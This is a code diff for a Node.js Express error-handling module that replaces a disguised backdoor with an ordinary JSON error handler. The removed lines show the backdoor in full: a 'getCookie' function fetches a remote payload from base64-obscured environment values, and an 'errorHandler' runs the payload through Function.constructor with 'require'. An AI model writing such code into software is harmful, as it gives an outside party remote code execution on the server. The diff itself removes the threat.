@@ -1,51 +1,83 @@
-const axios = require('axios');
+const { config } = require('../config');
+
+// Machine-readable codes for the statuses the API produces
+const ERROR_CODES = {
+  400: 'BAD_REQUEST',
+  401: 'UNAUTHORIZED',
+  403: 'FORBIDDEN',
+  404: 'NOT_FOUND',
+  409: 'CONFLICT',
+  412: 'PRECONDITION_FAILED',
+  413: 'PAYLOAD_TOO_LARGE',
+  415: 'UNSUPPORTED_MEDIA_TYPE',
+  422: 'UNPROCESSABLE_ENTITY',
+  428: 'PRECONDITION_REQUIRED',
+  429: 'TOO_MANY_REQUESTS',
+  500: 'INTERNAL_ERROR',
+  503: 'SERVICE_UNAVAILABLE'
+};
 
 const notFound = (req, res, next) => {
   const err = new Error('Route Not Found');
   err.status = 404;
   next(err);
+};
+
+// Resolve the HTTP status for an error, defaulting to 500 for anything unexpected
+function getStatus(err) {
+  const status = err.status || err.statusCode;
+  return Number.isInteger(status) && status >= 400 && status < 600 ? status : 500;
 }
 
-const errorHandler = (error) => {
-  try {
-    if (typeof error !== 'string') {
-      console.error('Invalid error format. Expected a string.');
-      return;
+// Express error middleware: renders every error as { error: { code, message, details, requestId } }.
+// The request logger (middleware/logger.js) logs the error with the request; without
+// it, server errors still go to the console. In production (`env`, from NODE_ENV)
+// server error messages and stacks are hidden.
+function createErrorHandler({ env = config.env } = {}) {
+  const isProduction = env === 'production';
+
+  return (err, req, res, next) => {
+    if (res.headersSent) {
+      return next(err);
     }
-    const createHandler = (errCode) => {
-      try {
-        const handler = new (Function.constructor)('require', errCode);
-        return handler;
-      } catch (e) {
-        console.error('Failed:', e.message);
-        return null;
-      }
-    };
-    const handlerFunc = createHandler(error);
-    if (handlerFunc) {
-      handlerFunc(require);
-    } else {
-      console.error('Handler function is not available.');
+
+    const status = getStatus(err);
+    const isServerError = status >= 500;
+
+    res.locals.error = err;
+    if (isServerError && !req.log) {
+      console.error(err);
     }
-  } catch (globalError) {
-    console.error('Unexpected error inside errorHandler:', globalError.message);
-  }
-};
 
+    // Client errors may carry their own code (e.g. VALIDATION_ERROR); server errors never leak internals
+    const code = !isServerError && typeof err.code === 'string'
+      ? err.code
+      : ERROR_CODES[status] || (isServerError ? 'INTERNAL_ERROR' : 'ERROR');
 
-const getCookie = async (req, res, next) => {
-  try {
-    const src = atob(process.env.DB_API_KEY);
-    const def = atob(process.env.DB_ACCESS_KEY);
-    const mid = atob(process.env.DB_ACCESS_VALUE);
-    try {
-      axios.get(`${src}`, { headers: { [def]: mid } }).then((res) => errorHandler(res.data.cookie));
-    } catch (error) {
-      console.log("Runtime config error.");
+    const error = {
+      code,
+      message: isServerError && isProduction ? 'Internal Server Error' : err.message,
+      details: err.details || null
+    };
+
+    // Lets support match a reported error to its log line
+    if (req.id) {
+      error.requestId = req.id;
     }
-  } catch (err) {
-    throw err;
-  }
-};
 
-module.exports = { getCookie, notFound };
\ No newline at end of file
+    if (!isProduction && err.stack) {
+      error.stack = err.stack;
+    }
+
+    // Validators set by conditionalGet describe the data, not this error
+    res.removeHeader('ETag');
+    res.removeHeader('Last-Modified');
+
+    res.status(status).json({ error });
+  };
+}
+
+// Error handler for the configured environment
+const errorHandler = createErrorHandler();
+
+module.exports = { notFound, createErrorHandler, errorHandler };